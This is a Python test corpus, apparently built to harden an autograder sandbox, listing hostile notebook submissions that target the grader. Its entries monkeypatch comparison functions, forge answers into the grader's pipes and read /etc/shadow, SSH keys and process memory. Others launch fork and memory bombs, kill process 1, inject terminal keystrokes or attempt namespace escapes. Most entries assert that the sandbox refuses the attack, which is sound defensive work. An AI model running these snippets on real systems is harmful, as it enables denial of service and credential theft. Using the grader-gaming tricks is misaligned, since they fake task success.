"""The hostile corpus: submissions that try to take a point or to do harm.

Each is put into the released notebook of the trial set (`trial.py`).  ``points`` is
what it has earned by honest work: 0, or that of the honest answers it holds;
``says`` must be among its outputs, as the sign that it came as far as it should, and
``told`` among what its checks say.  In the code, CANARY is a file of the grader, PORT
and ABSTRACT are where the grader's machine listens.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
from textwrap import dedent

from trial import HONEST, POINTS


@dataclass(frozen=True)
class Hostile:
    """A submission: what it tries, its text by cell, and how its file is changed."""

    name: str
    tries: str
    cells: dict[str, str] = field(default_factory=dict)
    points: float = 0.0
    edit: Callable[[dict], None] | None = None
    refused: bool = False
    says: str = ""
    told: str = ""


CORPUS: list[Hostile] = []


def add(name: str, tries: str, code: str = "", *, honest: str = "", **more) -> None:
    """Hostile code before the first answer; ``honest`` names answers that are given.

    Where the first answer is honest too, the code stands above it.
    """
    names = honest.split()
    cells = {f"{name}-answer": HONEST[f"{name}-answer"] for name in names}
    if code:
        first = cells.get("twice-answer", "")
        cells["twice-answer"] = f"import os, sys, time\n{dedent(code)}\n{first}"
    points = sum(POINTS[name] for name in names)
    CORPUS.append(Hostile(name, tries, cells, points, **more))


def last(name: str, tries: str, code: str, **more) -> None:
    """Hostile code in the last answer, after two honest ones, which keep their 5."""
    cells = {**HONEST, "weights-answer": f"import os, sys, time\n{dedent(code)}"}
    points = POINTS["twice"] + POINTS["guess"]
    CORPUS.append(Hostile(name, tries, cells, points, **more))


def edited(name: str, tries: str, edit: Callable[[dict], None], *, cells=None, **more):
    """A notebook whose file was changed; its answers are honest or as given."""
    CORPUS.append(Hostile(name, tries, cells or {}, edit=edit, **more))


def every(expression: str, before: str = "") -> str:
    """Answers to all questions with one expression."""
    return dedent(before) + dedent(f"""
        def twice(number):
            return {expression}
        class Learner:
            def predict(self, x):
                return {expression}
            def update(self, x, y):
                return {expression}
        def weights(losses):
            return {expression}
    """)


def twice(expression: str, before: str = "") -> str:
    """An answer to the first question only, for what takes its time."""
    return dedent(before) + f"\ndef twice(number):\n    return {expression}\n"


# fmt: off
# --- Patching what a grader might use ------------------------------------

add("patch-numpy", "makes numpy's comparisons say yes", every("0", """
    import numpy as np
    np.allclose = np.array_equal = np.isclose = np.all = lambda *a, **k: True
    np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None
"""))
add("patch-builtins", "replaces builtins", every("0", """
    import builtins
    builtins.abs = builtins.len = builtins.int = builtins.float = lambda *a: 0
    builtins.all = builtins.any = builtins.isinstance = lambda *a: True
"""))
add("patch-assert", "makes AssertionError and all exceptions harmless", every("0", """
    import builtins
    class Silent(BaseException):
        def __new__(cls, *args):
            return super().__new__(cls)
    builtins.AssertionError = builtins.Exception = Silent
    sys.excepthook = lambda *a: None
"""))
add("patch-messages", "replaces the encoder of answers", every("0", """
    import messages
    messages.encode = lambda value: '["value",1]'
"""))
add("patch-worker", "replaces the worker's own functions", every("0", """
    worker = sys.modules["__main__"]
    worker.answer = lambda *a: '["value",{"map":{"outputs":[],"points":7}}]'
    worker.Notebook.call = lambda *a: True
"""))
add("patch-json", "replaces json.dumps", every("0", """
    import json
    json.dumps = lambda *a, **k: '["value",true]'
"""))
add("patch-import", "plants a grader package of its own", every("0", """
    import types
    for name in ("olutil", "grading", "grading.checks", "nbgrader"):
        sys.modules[name] = types.ModuleType(name)
    open("/tmp/numpy.py", "w").write("allclose = lambda *a: True")
    sys.path.insert(0, "/tmp")
"""))

# --- Values that lie -------------------------------------------------------

for base, value in [
    ("object", ""), ("int", "1"), ("float", "1.0"), ("str", "'1'"),
    ("list", "[1]"), ("tuple", "(1,)"), ("dict", "{}"), ("bytes", "b'1'"),
]:
    add(f"equal-{base}", f"returns a {base} that is equal to everything",
        every(f"Equal({value})", f"""
    class Equal({base}):
        __eq__ = __ge__ = __le__ = __lt__ = __gt__ = lambda *a: True
        __ne__ = lambda *a: False
        __hash__ = lambda self: 0
        __len__ = lambda self: 6
        __bool__ = lambda self: True
        __int__ = __index__ = lambda self: 1
        __float__ = lambda self: 1.0
        __getattr__ = lambda self, name: (lambda *a, **k: Equal({value}))
"""))
add("equal-array", "returns an ndarray subclass that compares equal", every(
    "np.zeros(6).view(Equal)", """
    class Equal(np.ndarray):
        __eq__ = lambda *a: np.True_
        __ne__ = lambda *a: np.False_
        __array_ufunc__ = lambda *a, **k: np.True_
        __array_function__ = lambda *a, **k: True
        tolist = lambda self: self
"""))
add("equal-fraction", "returns a Fraction with lying parts", every("Equal(1)", """
    from fractions import Fraction
    class Equal(Fraction):
        numerator = property(lambda self: Equal(1))
        denominator = property(lambda self: 0)
        __eq__ = lambda *a: True
"""))
add("zero-fraction", "forges a fraction with denominator 0", every("0", """
    import messages
    messages.encode = lambda value: '["value",{"fraction":[1,0]}]'
"""))
add("endless-list", "returns a list whose iterator never ends", twice("Endless()", """
    class Endless(list):
        def __iter__(self):
            while True:
                yield 0
"""))
add("endless-generator", "returns a generator that never ends", twice("drip()", """
    def drip():
        while True:
            try:
                yield 1
            except BaseException:
                pass
"""))
add("slow-generator", "the same, and it keeps TooLong to itself", twice("drip()", """
    import time
    def drip():
        while True:
            try:
                time.sleep(0.5)
            except BaseException:
                pass
            yield [1]
"""))
add("getattr-all", "one object answers every name", every("Any()", """
    class Any(type):
        def __getattr__(cls, name):
            return lambda *a, **k: cls
    class Any(metaclass=Any):
        __getattr__ = lambda self, name: self
        __call__ = lambda self, *a, **k: self
"""))
for name, value in {
    "generator": "(n for n in range(10**9))",
    "function": "(lambda *a: True)",
    "nan": "float('nan')",
    "infinity": "float('inf')",
    "nan-array": "np.full(6, np.nan)",
    "giant-int": "10 ** 5000",
    "large-int": "10 ** 399",
    "giant-array": "np.zeros(10 ** 7)",
    "giant-text": "'1' * 10 ** 7",
    "thin-array": "np.zeros((1, 1, 1, 1, 6))",
    "complex": "1j * np.ones(6)",
    "objects": "np.array([None, object()] * 3)",
    "structured": "np.zeros(6, dtype=[('a', float), ('b', int)])",
    "none": "None",
    "text-number": "'84'",
    "module": "np",
}.items():
    add(f"returns-{name}", f"returns {value}", every(value))
add("returns-empty-array", "returns an empty array that is lists without end as a list",
    every("np.zeros((4_000_000, 4_000_000, 0))"), told="an array of shape")
add("returns-deep", "returns lists nested 50,000 deep", every("deep", """
    deep = []
    for _ in range(50_000):
        deep = [deep]
"""))
add("returns-itself", "returns a list that holds itself", every("ring", """
    ring = []
    ring.append(ring)
"""))

# --- Reading what is not its own ---------------------------------------------

FOUND = """
    found = []
    def look(function):
        try:
            found.append(function())
        except BaseException as error:
            found.append(repr(error)[:200])
"""
add("read-frames", "looks for the answers in the callers' frames", every("spy()", """
    def spy():
        frame = sys._getframe()
        while frame:
            for name in ("rng", "right", "target", "checks", "student"):
                if name in frame.f_locals or name in frame.f_globals:
                    return frame.f_locals.get(name, frame.f_globals.get(name))
            frame = frame.f_back
        return 0
"""))
add("read-gc", "looks for the checks among all objects", every("0", """
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Checks", "Check", "Student", "Generator"):
            print(vars(thing))
    print([m for m in sys.modules if "olutil" in m])
"""), says="[]")
add("read-history", "looks in the input history", every("0", """
    for name in ("In", "_ih", "_i", "_oh", "get_ipython", "__IPYTHON__"):
        print(name, globals().get(name))
"""))
add("read-memory", "searches its own memory for the hidden checks", every("0", """
    for line in open("/proc/self/maps"):
        ends = line.split()[0].split("-")
        begin, end = (int(n, 16) for n in ends)
        if "rw" in line and end - begin < 10**8:
            memory = open("/proc/self/mem", "rb")
            memory.seek(begin)
            content = memory.read(end - begin)
            at = content.find(b"the-tok" + b"en-of-")
            if at >= 0:
                print(content[at : at + 60])
"""))
add("read-files", "looks for the checks and other work on the disk", every("0", """
    for folder, folders, files in os.walk("/"):
        if folder.startswith(("/proc", "/dev", "/usr")):
            folders.clear()
        for file in files:
            if file.endswith((".ipynb", ".db")) or "olutil" in folder:
                print(folder, file, open(os.path.join(folder, file)).read()[:5000])
"""))
add("read-canary", "reads and writes a file of the grader", every("0", FOUND + """
    look(lambda: print(open("CANARY").read()))
    look(lambda: print(open("/proc/1/root" + "CANARY").read()))
    look(lambda: print(open("/proc/1/cwd" + "CANARY").read()))
    look(lambda: open("CANARY", "w").write("changed"))
    look(lambda: os.unlink("CANARY"))
    look(lambda: os.rename("/tmp", "CANARY"))
    print(found)
"""), says="No such file")
add("read-system", "reads the machine's files", every("0", FOUND + """
    for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/etc/hostname",
                 "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kcore",
                 "/proc/kmsg", "/sys/kernel/security", "/var/log/syslog", "/home"):
        look(lambda: print(path, open(path, "rb").read(2000)))
        look(lambda: print(path, os.listdir(path)))
    print([p for p in ("/etc", "/root", "/home", "/var") if os.path.exists(p)])
"""), says="[]")
add("read-environment", "reads the grader's environment", every("0", """
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            print(open(f"/proc/{pid}/{name}").read())
    print(os.environ)
"""), says="PATH=")
add("read-requests", "reads the grader's next requests from the pipe", every("0", """
    import threading
    def steal(descriptor):
        while True:
            print(os.read(descriptor, 65536))
    for name in os.listdir("/proc/self/fd"):
        threading.Thread(target=steal, args=(int(name),), daemon=True).start()
"""))
add("read-others", "looks for other submissions and the gradebook", every("0", """
    import glob
    for pattern in ("gradebook.db", "submitted", "grades.csv", "nbgrader_config.py",
                    "book/exercises", "tmp/*", "work", "root", "home", "mnt", "srv"):
        for above in ("/", "/*/", "/*/*/"):
            print(glob.glob(above + pattern)[:100])
"""))
add("read-host-proc", "leaves by /proc/PID/root, cwd, fd and ns", every("0", FOUND + """
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("root/etc", "root/home", "cwd", "fd", "map_files", "ns"):
            look(lambda: print(pid, name, os.listdir(f"/proc/{pid}/{name}")))
    look(lambda: print(open("/proc/1/root/etc/passwd").read()))
    print([p for p in ("etc", "root", "home") if os.path.exists(f"/proc/1/root/{p}")])
"""), says="[]")

# --- Forged answers ----------------------------------------------------------

WRITE = r"""
    def is_pipe(number):
        try:
            return os.readlink(f"/proc/self/fd/{number}").startswith("pipe:")
        except OSError:
            return False
    pipes = [int(f) for f in os.listdir("/proc/self/fd") if is_pipe(f)]
    def forge(text):
        for pipe in pipes:
            try:
                os.write(pipe, text.encode())
            except OSError:
                pass
"""
ONE = r"""'["value",1]\n'"""
add("forge-during", "writes an answer of its own in a call", every(
    f"forge({ONE})", WRITE))
add("forge-ahead", "writes 500 answers ahead of time", every(
    "0", WRITE + f"""
    forge({ONE} * 500)
"""))
add("forge-after", "writes an answer from a thread after a call", every(
    f"threading.Timer(0.01, forge, [{ONE}]).start()", WRITE + """
    import threading
"""))
add("forge-empty-array", "forges an empty array that is lists without end", every(
    r"""forge('["value",{"array":[],"shape":[4000000,4000000,0],"kind":"f"}]\n')""",
    WRITE), told="whose shape is not that of its items")
add("forge-points", "answers with points and a full report", every("0", WRITE + r"""
    forge('["value",{"map":{"outputs":[],"error":null,"earned":7,"points":7}}]\n')
"""))
add("forge-array-verb", "answers with an array where a word belongs", every(
    r"""forge('[{"array":[1,2],"shape":[2],"kind":"i"},1]\n')""", WRITE))
add("forge-long-error", "forges an error of 3 MB", every(
    r"""forge('["error","E","' + "<b>" * 10**6 + '"]\n')""", WRITE))
add("forge-odd-error", "forges an error with half characters and controls", every(
    r"""forge('["error","=1+1","\\ud800\\u0000\\u001b[2J\\u202e=cmd"]\n')""", WRITE))
add("forge-no-json", "answers with broken lines", every(
    r"""forge("]]]]{\n\x00\n[1,\n" + "[" * 10**5 + "\n")""", WRITE))
add("forge-numbers", "answers with numbers that no reader likes", every(
    r"""forge('["value",1e999]\n["value",' + "9" * 5000 + ']\n["value",NaN]\n')""",
    WRITE))
add("forge-flood", "writes a line that never ends", twice("flood()", WRITE + """
    def flood():
        while True:
            forge("1" * 65536)
"""))
add("forge-drip", "answers one byte at a time", twice("drip()", WRITE + """
    def drip():
        while True:
            forge("[")
            time.sleep(0.05)
"""))
add("forge-outputs", "a cell's outputs are scripts and false pictures", every(
    "0", WRITE + r"""
    import base64, json, struct
    def png(width, height):
        head = b"\x89PNG\r\n\x1a\n" + struct.pack(">8sII", b"----IHDR", width, height)
        return base64.b64encode(head).decode()
    outputs = [
        {"text/html": "<script>alert(1)</script>"}, {"stream": 3}, 7, [], None,
        {"png": '"><script>alert(1)</script>'}, {"png": png(10**5, 10**5)},
        {"stream": "a", "png": png(1, 1)}, {"stream": "x" * 600_000},
    ]
    pack = [{"map": o} if isinstance(o, dict) else o for o in outputs]
    forge(json.dumps(["value", pack * 5]) + "\n")
"""), says="xxxxxxxx")
add("swap-pipes", "exchanges and closes the pipes", every("0", WRITE + """
    os.dup2(pipes[0], 250)
    for pipe in pipes[1:]:
        os.dup2(pipe, pipes[0])
        os.dup2(250, pipe)
    os.closerange(3, 60)
"""))
add("thief", "takes its own answers out of the pipe again", every("0", WRITE + """
    import threading
    def steal(pipe):
        descriptor = os.open(f"/proc/self/fd/{pipe}", os.O_RDONLY)
        while True:
            os.read(descriptor, 65536)
    for pipe in pipes:
        threading.Thread(target=steal, args=(pipe,), daemon=True).start()
"""))
add("thief-fork", "a process of its own takes the answers and floods", """
    for name in os.listdir("/proc/self/fd"):
        if os.fork() == 0:
            try:
                descriptor = os.open(f"/proc/self/fd/{name}", os.O_RDWR)
                while True:
                    os.write(descriptor, b"1")
                    os.read(descriptor, 65536)
            finally:
                os._exit(0)
""")
add("fill-requests", "fills the pipe of the requests", every("0", WRITE + """
    for pipe in pipes:
        if os.readlink(f"/proc/self/fd/{pipe}").startswith("pipe:"):
            descriptor = os.open(f"/proc/self/fd/{pipe}", os.O_WRONLY | os.O_NONBLOCK)
            try:
                while True:
                    os.write(descriptor, b"x" * 65536)
            except BlockingIOError:
                pass
"""))
add("impersonate", "a fork takes the worker's place", WRITE + r"""
    if os.fork():
        while True:
            time.sleep(1)
    import json
    for line in os.fdopen(int(sys.argv[1])):
        forge('["value",1]\n')
""")
add("impersonate-check", "a fork takes the worker's place in a check", twice(
    "take_over()", WRITE + r"""
    def take_over():
        if os.fork():
            time.sleep(100)
        for line in os.fdopen(os.dup(int(sys.argv[1]))):
            forge('["value",' + str(2 * len(line)) + ']\n')
"""))
add("exec", "replaces the worker by another program", every("0", r"""
    code = "import os\nwhile True: os.write(%s, b'[\"value\",1]\\n')" % sys.argv[2]
    os.set_inheritable(int(sys.argv[2]), True)
    os.execv("/proc/self/exe", ["python", "-S", "-c", code])
"""))

# --- Living on, and ending others ------------------------------------------

STAY = """
    def stay():
        if os.fork() == 0:
            try:
                os.setsid()
            except PermissionError:
                os.setpgid(0, 0)
            if os.fork() == 0:
                import signal
                for number in range(1, 65):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                while True:
                    time.sleep(1)
            os._exit(0)
        return 0
"""
add("stay", "leaves a daemon that ignores signals", every("0", STAY + """
    stay()
"""))
add("stay-check", "leaves daemons from within the checks", every("stay()", STAY))
add("atexit", "forks and writes when the process ends", every("0", WRITE + r"""
    import atexit, threading
    def more():
        os.fork()
        forge('["value",1]\n' * 100)
        time.sleep(5)
    atexit.register(more)
    threading._register_atexit(more)
"""))
add("ignore-alarm", "switches the clock off and goes on forever", """
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        time.sleep(1)
""")
add("swallow", "swallows every exception, TooLong too", """
    while True:
        try:
            while True:
                time.sleep(0.1)
        except BaseException:
            pass
""")
add("swallow-check", "the same in the checks", twice("swallow()", """
    def swallow():
        while True:
            try:
                time.sleep(0.1)
            except BaseException:
                pass
"""))
add("loop", "an endless loop in a cell", "while True: pass")
add("loop-check", "an endless loop in the checks", twice("loop()", """
    def loop():
        while True:
            pass
"""))
add("sleep", "sleeps for an hour, in every cell", edit=lambda nb: [
    cell.update(source="import time; time.sleep(3600)")
    for cell in nb["cells"] if cell["cell_type"] == "code"
])
add("uninterruptible", "computes where no signal is heard", "x = str(3 ** (10 ** 8))")
add("regex", "a regular expression without an end", """
    import re
    re.match("(a*)*$", "a" * 40 + "b")
""")
add("loop-repr", "a repr that never ends", """
    class Slow:
        def __repr__(self):
            while True:
                time.sleep(0.1)
    Slow()
""")
add("loop-message", "an exception whose text never ends", twice("fail()", """
    class Slow(Exception):
        def __str__(self):
            while True:
                time.sleep(0.1)
    def fail():
        raise Slow
"""))
add("bad-message", "an exception whose text raises", every("fail()", """
    class Bad(BaseException):
        def __str__(self):
            raise self
        __repr__ = __str__
    def fail():
        raise Bad
    fail()
"""))
add("long-message", "an exception with a text of 50 MB and a long name", every(
    "fail()", """
    def fail():
        raise type("<script>" * 10**5, (Exception,), {})("=cmd" * 10**7)
"""))
last("exit", "ends the process in the last cell", "os._exit(0)")
last("sys-exit", "sys.exit and KeyboardInterrupt", "raise KeyboardInterrupt")
last("exit-check", "ends the process in the checks", """
    def weights(losses):
        os._exit(0)
""")
last("segfault", "reads at address 0", "import ctypes; ctypes.string_at(0)")
last("segfault-check", "reads at address 0 in the checks", """
    import ctypes
    def weights(losses):
        return ctypes.string_at(0)
""")
last("abort", "aborts with a core dump", "os.abort()")
last("kill-all", "kills all that it can see", "os.kill(-1, 9)")
last("kill-first", "kills its parents and process 1", """
    for pid in (os.getppid(), 1, 2):
        for number in (9, 19, 15):
            os.kill(pid, number)
""")
last("kill-group", "stops its group", "os.killpg(0, 19)")
last("stop", "stops itself in the checks", """
    def weights(losses):
        os.kill(os.getpid(), 19)
""")
add("poke-first", "rewrites the code of the sandbox's first process", """
    import ctypes
    try:
        memory = open("/proc/1/mem", "r+b", buffering=0)
        for line in open("/proc/1/maps"):
            if "r-xp" in line and "bwrap" in line:
                begin, end = (int(n, 16) for n in line.split()[0].split("-"))
                memory.seek(begin)
                memory.write(b"\\xeb\\xfe" * ((end - begin) // 2))
    except OSError as error:
        print(error)
    for name in os.listdir("/proc/1/fd"):
        try:
            os.write(os.open(f"/proc/1/fd/{name}", os.O_WRONLY), b"\\1" + b"\\0" * 7)
        except OSError:
            pass
    while os.fork():
        time.sleep(0.2)
""", says="Read-only")
add("trace", "traces its parent and process 1", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for request in (16, 0x4206):
        for pid in (1, os.getppid()):
            assert libc.ptrace(request, pid, 0, 0) == -1
    assert libc.process_vm_writev(1, 0, 0, 0, 0, 0) == -1
    print("traced nobody")
""", says="traced nobody")

# --- Too much of everything ------------------------------------------------------

last("fork-bomb", "forks without end", """
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
""")
add("hog", "computes in many processes, on every core", """
    cores = range(os.cpu_count())
    for _ in range(13):
        if os.fork() == 0:
            for leave in (os.setsid, lambda: os.sched_setaffinity(0, cores)):
                try:
                    leave()
                except PermissionError:
                    pass
            while True:
                pass
    os.sched_setaffinity(0, cores)
""", says="not permitted")
last("thread-bomb", "starts threads without end", """
    import threading
    while True:
        threading.Thread(target=time.sleep, args=(100,)).start()
""", says="start new thread")
last("memory", "fills the memory", "x = []\nwhile True: x.append(bytearray(10**8))")
last("memory-many", "fills the memory from many processes", """
    for _ in range(10):
        if os.fork() == 0:
            x = bytearray(b"x") * 300_000_000
            time.sleep(100)
    time.sleep(100)
""")
last("memory-shared", "fills memory that no process is seen to hold", """
    import mmap, time
    while True:
        m = mmap.mmap(-1, 10**8)
        m.write(b"x" * 10**8)
        m.madvise(mmap.MADV_DONTNEED)
        keep = globals().setdefault("keep", [])
        keep.append(m)
""", says="not permitted")
last("memory-files", "fills memory by memfd, /dev/zero, /dev/shm and System V", """
    import ctypes, mmap
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.shmget(0, 10**8, 0o1777) == -1
    def memfd():
        return os.memfd_create("x")
    def shm():
        return open("/dev/shm/x", "wb")
    def zero():
        return mmap.mmap(os.open("/dev/zero", os.O_RDWR), 10**8)
    def pages():
        return open("/dev/hugepages/x", "wb")
    for function in (memfd, shm, zero, pages):
        try:
            function()
        except OSError:
            continue
        while True:
            print("shared memory")
""")
SYSTEM = """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    def call(intel, arm, *arguments):
        # By its number on each architecture; whether it was refused.
        number = intel if os.uname().machine == "x86_64" else arm
        ctypes.set_errno(0)
        return libc.syscall(number, *arguments) == -1 and ctypes.get_errno() in (1, 38)
"""
last("memory-pipes", "lends pages to pipes and lets go of them", SYSTEM + """
    reading, writing = os.pipe()
    page = ctypes.create_string_buffer(4096)
    class Piece(ctypes.Structure):
        _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    piece = Piece(ctypes.addressof(page), 4096)
    file = os.open(np.__file__, os.O_RDONLY)
    assert call(278, 75, writing, ctypes.byref(piece), 1, 0), "vmsplice"
    assert call(275, 76, file, None, writing, None, 4096, 0), "splice"
    assert call(276, 77, reading, writing, 4096, 0), "tee"
    assert call(40, 71, writing, file, None, 4096), "sendfile"
    print("lent nothing")
""", says="lent nothing")
last("memory-kernel", "lets the kernel's own memory grow", SYSTEM + """
    import fcntl, struct
    def refused(function, *arguments):
        try:
            function(*arguments)
        except PermissionError:
            return True
        return False
    file = open("/tmp/x", "w")
    lock = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 2, 1, 0)
    for command in (6, 7, 37, 38):  # of the process and of the file, now or later
        assert refused(fcntl.fcntl, file, command, lock), "a lock"
    assert refused(fcntl.flock, file, fcntl.LOCK_SH), "a lock that neighbors see"
    assert refused(fcntl.fcntl, os.open("/tmp/x", 0), 1024, fcntl.F_RDLCK), "a lease"
    assert refused(fcntl.fcntl, os.pipe()[1], 1031, 1 << 20), "a longer pipe"
    assert refused(os.setxattr, "/tmp/x", "user.x", b"x"), "an attribute"
    assert not os.path.exists("/dev/ptmx"), "a terminal"
    assert call(294, 26, 0), "inotify"
    assert call(444, 444, None, 0, 1), "rules for files"
    assert call(317, 277, 2, 0, None), "a filter"
    assert call(451, 451, 0, 0, 0, 0), "a new call"
    print("nothing grew")
""", says="nothing grew")
last("memory-huge", "holds huge pages by a piece of each", SYSTEM + """
    import mmap
    assert libc.prctl(41, 0, 0, 0, 0) == libc.prctl(41, 1, 2, 0, 0) == -1
    memory = mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    memory.madvise(mmap.MADV_HUGEPAGE)
    memory[::4096] = bytes(len(memory) // 4096)
    print(*[s for s in open("/proc/self/smaps_rollup") if "AnonHuge" in s][0].split())
    try:
        mmap.mmap(-1, 2 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)
    except PermissionError:
        print("no pool")
""", says="AnonHugePages: 0 kB\\nno pool")
last("timers", "makes timers and signals that wait without end", """
    import ctypes, signal
    libc = ctypes.CDLL(None)
    signal.pthread_sigmask(signal.SIG_BLOCK, [40])
    sent = sum(libc.sigqueue(os.getpid(), 40, None) == 0 for _ in range(5000))
    made = sum(libc.timer_create(1, 0, ctypes.byref(ctypes.c_void_p())) == 0
               for _ in range(5000))
    print("few" if sent + made <= 64 else f"{sent} and {made}")
""", says="few")
last("disk", "fills the scratch folder", """
    for number in range(1000):
        open(f"/tmp/{number}", "wb").write(b"x" * 10**7)
""", says="No space left")
last("many-files", "makes a million empty files", """
    for number in range(10**6):
        os.close(os.open(f"/tmp/{number}", os.O_CREAT))
""")
last("descriptors", "opens files and pipes without end", """
    opened = []
    while True:
        opened.append((os.pipe(), os.open("/dev/null", os.O_RDWR)))
""", says="Too many open files")
last("print", "prints without end", "while True: print('x' * 1000)",
     says="[output cut here]")
last("print-result", "shows a text of 100 MB", "'x' * 10**8")
last("print-pictures", "draws hundreds of large pictures", """
    import matplotlib.pyplot as plt
    for _ in range(30):
        plt.figure(figsize=(60, 60)).add_subplot().imshow(np.random.rand(300, 300))
""")
last("recursion", "recurses without end", """
    sys.setrecursionlimit(10**9)
    def down():
        down()
    down()
""")
last("syntax", "code nested so deep that parsing fails", "x = " + "(" * 9000)
last("magic-lines", "9,000 lines of magic, each parsed with those above",
     "%x\n" * 6000)

# --- The network -----------------------------------------------------------------

NET = """
    import ctypes, socket
    reached = []
    def knock(family, kind, address):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.5)
                s.connect(address)
                s.send(b"knock")
                reached.append(address)
        except OSError as error:
            print(error)
"""
add("tcp", "connects to the grader's machine", NET + """
    knock(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT))
    knock(socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT))
""", says="not permitted")
add("udp", "sends packets and asks for names", NET + """
    knock(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT))
    try:
        print(socket.getaddrinfo("localhost", PORT))
    except OSError as error:
        print(error)
""", says="not permitted")
add("abstract", "connects to an abstract socket of the machine", NET + """
    knock(socket.AF_UNIX, socket.SOCK_STREAM, "\\0ABSTRACT")
    for path in ("/run/docker.sock", "/var/run/dbus/system_bus_socket"):
        knock(socket.AF_UNIX, socket.SOCK_STREAM, path)
""", says="not permitted")
add("raw", "raw and netlink sockets, and new calls past the library", NET + """
    knock(socket.AF_PACKET, socket.SOCK_RAW, ("lo", 0))
    knock(socket.AF_NETLINK, socket.SOCK_RAW, (0, 0))
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.syscall(41 if os.uname().machine == "x86_64" else 198, 2, 1, 0) == -1
    assert libc.syscall(425, 8, 0) == -1
    print("no socket")
""", says="no socket")

# --- Out of the namespaces ---------------------------------------------------------

add("namespaces", "new namespaces and mounts", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x08000000):
        assert libc.unshare(flag) == -1, flag
    assert libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0) == -1
    assert libc.mount(b"none", b"/", None, 32, 0) == -1  # remount
    assert libc.umount2(b"/packages", 2) == -1
    assert libc.chroot(b"/tmp") == -1
    clone = 56 if os.uname().machine == "x86_64" else 220
    assert libc.syscall(clone, 0x10000000 | 17, 0, 0, 0, 0) == -1
    for name in os.listdir("/proc/1/ns"):
        assert libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0) == -1
    print("nothing new")
""", says="nothing new")
add("rights", "becomes root, sets capabilities and limits", """
    import resource
    def refused(function, *arguments):
        try:
            function(*arguments)
        except (OSError, ValueError):
            return
        raise SystemError(f"{function} {arguments}")
    for function in (os.setuid, os.setgid):
        refused(function, 0)
    refused(os.setgroups, [0])
    refused(os.nice, -5)
    refused(os.chroot, "/tmp")
    refused(os.mknod, "/tmp/disk", 0o60666, os.makedev(254, 0))
    refused(resource.setrlimit, resource.RLIMIT_AS, (1 << 40, 1 << 40))
    refused(resource.setrlimit, resource.RLIMIT_NPROC, (1000, 1000))
    print("no rights")
""", says="no rights")
add("terminal", "types into the grader's terminal", """
    import fcntl, termios
    for path in ("/dev/tty", "/dev/pts/0", "/dev/console", "/proc/1/fd/0"):
        try:
            descriptor = os.open(path, os.O_RDWR)
            for letter in "touch CANARY\\n":
                fcntl.ioctl(descriptor, termios.TIOCSTI, letter)
            print("typed into", path)
        except OSError as error:
            print(error)
""")
add("kernel", "changes the kernel's settings", """
    import glob
    for path in glob.glob("/proc/sys/**", recursive=True) + ["/proc/sysrq-trigger"]:
        if os.path.isfile(path):
            try:
                open(path, "w").write("1")
                print("wrote to", path)
            except OSError:
                pass
    print("the end")
""", says="'the end\\n'")
add("calls", "system calls with a long history of faults", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    keyctl = 250 if os.uname().machine == "x86_64" else 219
    for number in (keyctl, 425, 429, 430, 442, 438):
        assert libc.syscall(number, 0, 0, 0, 0) == -1
        assert ctypes.get_errno() == 1, number  # not permitted
    print("none of them")
""", says="none of them")
add("sync", "has the disks of the whole machine written, in fourteen processes", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    x86 = os.uname().machine == "x86_64"
    for _ in range(13):
        if os.fork() == 0:
            break
    for number in (162, 306, 277) if x86 else (81, 267, 84):
        assert libc.syscall(number, 0, 0, 0, 0) == -1
        assert ctypes.get_errno() == 1, number  # not permitted
    print("none of them")
""", says="none of them")
add("write-everywhere", "writes wherever a folder can be entered", """
    wrote = []
    for folder, folders, files in os.walk("/"):
        if folder.startswith("/proc") or folder.count("/") > 4:
            folders.clear()
        try:
            open(folder + "/left-behind", "w").close()
            wrote.append(folder)
        except OSError:
            pass
    assert all(folder.startswith("/tmp") for folder in wrote), wrote
    print("wrote only to", wrote)
""", says="wrote only to")

# --- Cheating on the questions -------------------------------------------------------

add("typed-in", "the visible checks' answers typed in", """
    def twice(number):
        return {3: 6}.get(number, 0)
    class Learner:
        predict = update = lambda self, *a: 0
    def weights(losses):
        return [0.73105858, 0.26894142]
""")
add("constant", "the same answer to everything", every("1"))
add("guess-rng", "makes the labels again from likely seeds", """
    class Learner:
        seeds = iter(range(100))
        def __init__(self):
            rng = np.random.default_rng([next(self.seeds), 5])
            self.labels = rng.integers(2, size=22)
        def predict(self, x):
            return int(self.labels[x])
        def update(self, x, y):
            pass
""")
add("peek", "waits for the label before it predicts", """
    import json, select
    class Learner:
        def predict(self, x):
            if select.select([int(sys.argv[1])], [], [], 0.01)[0]:
                line = os.read(int(sys.argv[1]), 10**5)
                return json.loads(line.splitlines()[0])[3][1]
            return 0
        def update(self, x, y):
            pass
""")
add("late", "answers a request late, after it has seen the next", WRITE + r"""
    import json
    class Learner:
        first = True
        def predict(self, x):
            if Learner.first:
                Learner.first = False
